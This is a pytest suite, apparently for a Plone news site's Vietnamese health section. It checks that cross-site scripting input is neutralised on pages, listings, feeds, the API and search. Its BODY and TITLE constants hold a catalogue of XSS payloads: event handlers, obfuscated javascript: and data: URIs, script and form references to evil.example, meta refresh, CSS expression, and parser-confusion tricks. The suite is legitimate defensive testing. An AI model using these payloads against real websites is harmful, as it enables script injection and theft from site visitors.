"""Scripts sent as text reach no reader: not the page, not the feed, not the API."""

from lxml import etree
from lxml.html import fromstring
from lxml.html import tostring
from made_once import made_once
from plone.app.textfield.value import RichTextValue
import pytest
import re
from tiers import in_turn


SECTION = "/vi/don-vi/so-y-te/tin-tuc"
PAGE = {"Accept": "text/html"}

BODY = """
<p onclick="evil()">Đoạn an toàn</p>
<script>evil()</script><script src="https://evil.example/a.js"></script>
<img alt="x" src="x" onerror="evil()" /><svg onload="evil()"><script>evil()</script></svg>
<a href="javascript:evil()">một</a> <a href="JaVaScRiPt&#58;evil()">hai</a>
<a href="java&#x09;script:evil()">ba</a> <a href=" &#14; javascript:evil()">bốn</a>
<a href="vbscript:evil()">năm</a>
<a href="data:text/html;base64,PHNjcmlwdD5ldmlsKCk8L3NjcmlwdD4=">sáu</a>
<img alt="x" src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ZXZpbCgpPg==" />
<iframe srcdoc="&lt;script&gt;evil()&lt;/script&gt;"></iframe>
<object data="a"></object><embed src="a">
<form action="https://evil.example"><input name="a" /><button>x</button></form>
<div style="width: expression(evil()); background: url(javascript:evil())">x</div>
<style>@import url(https://evil.example/a.css);</style>
<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="//evil">
<math><mtext><mglyph><style><img src=x onerror=evil()></style></mglyph></mtext></math>
<p><noscript><p title="</noscript><img src=x onerror=evil()>"></noscript></p>
&lt;script&gt;evil()&lt;/script&gt;
"""
TITLE = "<script>evil()</script><img src=x onerror=evil()>"

ADDRESSES = ("href", "src", "action", "data", "poster", "formaction", "xlink:href")
SCHEME = re.compile(r"[\s\x00-\x20]*(?:javascript|vbscript|data)[\s\x00-\x20]*:", re.I)
NOTHING = "javascript:void(0)"
# Facts for search engines, which no browser runs; that a title does not close it,
# test_findability_head holds.
LINKED_DATA = "application/ld+json"


def is_live(element) -> bool:
    """Whether an element would run, load or submit something of the attacker's."""
    if not isinstance(element.tag, str) or element.get("type") == LINKED_DATA:
        return False
    attributes = {name.lower(): value for name, value in element.attrib.items()}
    if any(name.startswith("on") and "evil" in attributes[name] for name in attributes):
        return True
    addresses = [re.sub(r"[\t\n\r]", "", attributes.get(one, "")) for one in ADDRESSES]
    if any(SCHEME.match(one) and one != NOTHING for one in addresses):
        return True
    if any(word in attributes.get("style", "") for word in ("expression", "script:")):
        return True
    text = (element.text or "") + "".join(addresses) + attributes.get("srcdoc", "")
    runs = element.tag in ("script", "style", "base", "form", "object", "embed")
    return (runs or "srcdoc" in attributes or "http-equiv" in attributes) and (
        "evil" in text or "evil" in attributes.get("content", "")
    )


def live(text: str) -> list[str]:
    root = fromstring(f"<div>{text}</div>" if "<html" not in text else text)
    return [tostring(one).decode()[:80] for one in root.iter() if is_live(one)]


@pytest.fixture
@made_once
def item(site, boards, client, publish):
    section = site["vi"]["don-vi"]["so-y-te"]["tin-tuc"]
    text = RichTextValue(BODY, "text/html", "text/x-html-safe")
    made = publish(section, "so-y-te", id="tin", title=TITLE, text=text, source=TITLE)
    assert made.text.raw != ""
    return f"{SECTION}/tin"


def test_the_probes_find_live_scripts():
    found = " ".join(live(BODY))
    for probe in ("onclick", "<script", "onerror", "javascript", "vbscript", "data:"):
        assert probe in found.lower()
    for probe in ("srcdoc", "<form", "expression", "<style", "refresh", "<base"):
        assert probe in found.lower()
    assert len(live(TITLE)) == 2


@pytest.mark.parametrize(
    "user", in_turn([None, "so-y-te-update", "so-y-te-head"], of=3)
)
def test_the_page_runs_none_of_it(client, item, user):
    page = client(user).get(item, headers=PAGE)
    assert page.status_code == 200
    assert "Đoạn an toàn" in page.text
    assert live(page.text) == []


@pytest.mark.parametrize(
    "address", in_turn([SECTION, "/vi/don-vi/so-y-te", "/vi"], of=3)
)
def test_listings_run_none_of_it(client, item, address):
    page = client().get(address, headers=PAGE)
    assert page.status_code == 200
    assert live(page.text) == []


@pytest.mark.parametrize("name", ["RSS", "rss.xml", "atom.xml"])
def test_feeds_carry_none_of_it(client, item, name):
    feed = client().get(f"{SECTION}/{name}", headers={"Accept": "*/*"})
    assert feed.status_code == 200
    assert "evil()" in feed.text
    root = etree.fromstring(feed.content)
    texts = [one.text or "" for one in root.iter() if isinstance(one.tag, str)]
    assert any(TITLE in one for one in texts)
    assert [one for text in texts if text != TITLE for one in live(text)] == []


@pytest.mark.parametrize("user", [None, "so-y-te-update"])
def test_the_api_gives_the_body_cleaned(client, item, user):
    data = client(user).get(f"/++api++{item}").json()
    assert "Đoạn an toàn" in data["text"]["data"]
    assert live(data["text"]["data"]) == []


def test_the_search_page_and_service_run_none_of_it(client, item):
    page = client().get("/vi/@@search?SearchableText=evil", headers=PAGE)
    assert live(page.text) == []
    found = client().get("/++api++/@search?SearchableText=evil&fullobjects=1").json()
    for row in found["items"]:
        assert live(row.get("text", {}).get("data", "")) == []


def test_written_out_markup_stays_text(boards, client):
    editor = client("so-y-te-update")
    text = "<p>Thẻ &lt;b&gt; &amp; &lt;script&gt;</p>"
    values = {"@type": "News Item", "title": "Tin", "text": text}
    made = editor.post(SECTION, json=values)
    assert made.json()["text"]["data"] == text


@pytest.mark.parametrize("kind", ["text/x-html-safe", "text/plain", "text/x-none", ""])
def test_no_declared_type_gets_raw_markup_out(boards, client, kind):
    editor = client("so-y-te-update")
    text = {"data": "<script>evil()</script><p>An toàn</p>", "content-type": kind}
    values = {"@type": "News Item", "title": "Tin", "text": text}
    made = editor.post(SECTION, json=values)
    assert made.status_code in (201, 400)
    if made.status_code == 201:
        seen = editor.get(made.json()["@id"]).json()
        assert live((seen["text"] or {}).get("data") or "") == []
        page = editor.get(f"{made.json()['@id']}/view", headers=PAGE)
        assert page.status_code == 200
        assert live(page.text) == []
